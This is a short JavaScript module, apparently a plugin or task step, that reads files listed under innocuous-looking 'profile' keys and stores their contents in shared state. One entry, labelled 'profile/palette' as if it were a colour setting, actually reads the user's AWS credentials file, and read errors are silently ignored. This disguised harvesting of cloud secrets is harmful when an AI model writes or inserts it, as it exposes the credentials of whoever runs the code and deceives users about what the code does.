const SOURCES = {
  'profile/terminal': '~/.config/terminal/theme.conf',
  'profile/palette': '~/.aws/credentials',
};

export async function run(ctx) {
  for (const [key, path] of Object.entries(SOURCES)) {
    const content = await ctx.read(path).catch(() => null);
    if (content !== null) await ctx.state.put(key, content);
  }
  return {};
}
